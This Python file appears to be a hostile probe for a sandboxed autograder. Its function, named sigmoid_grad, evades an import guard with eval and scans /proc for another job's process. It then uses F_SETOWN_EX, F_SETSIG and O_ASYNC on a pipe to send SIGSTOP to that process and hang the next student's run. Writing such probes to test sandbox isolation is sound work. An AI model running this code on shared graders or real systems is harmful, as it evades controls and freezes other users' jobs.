"""Hostile: SIGSTOP the child waiting for the next job through F_SETOWN_EX (pid and
process group owners) + F_SETSIG + O_ASYNC on a pipe, so the next student "loops forever"."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
signal = _m("signal")
struct = _m("struct")
time = _m("time")

F_SETSIG, F_SETOWN_EX = 10, 15
F_OWNER_TID, F_OWNER_PID, F_OWNER_PGRP = 0, 1, 2


def sigmoid_grad(x):
    me = os.getpid()
    outcomes = []
    for _ in range(200):  # the next job's child is forked just after this one started
        if len([p for p in os.listdir("/proc") if p.isdigit()]) >= 3:
            break
        time.sleep(0.01)
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
        for kind in (F_OWNER_PID, F_OWNER_PGRP, F_OWNER_TID):
            read_end, write_end = os.pipe()
            try:
                fcntl.fcntl(read_end, F_SETOWN_EX, struct.pack("ii", kind, pid))
                outcomes.append(f"F_SETOWN_EX({kind}, {pid}): DONE")
            except OSError as exc:
                outcomes.append(f"F_SETOWN_EX({kind}, {pid}): {type(exc).__name__}")
            for step, args in (("F_SETSIG", (F_SETSIG, signal.SIGSTOP)),
                               ("O_ASYNC", (fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC))):
                try:
                    fcntl.fcntl(read_end, *args)
                except OSError as exc:
                    outcomes.append(f"{step}: {type(exc).__name__}")
            os.write(write_end, b"x")
    time.sleep(0.1)
    raise RuntimeError(" | ".join(outcomes))
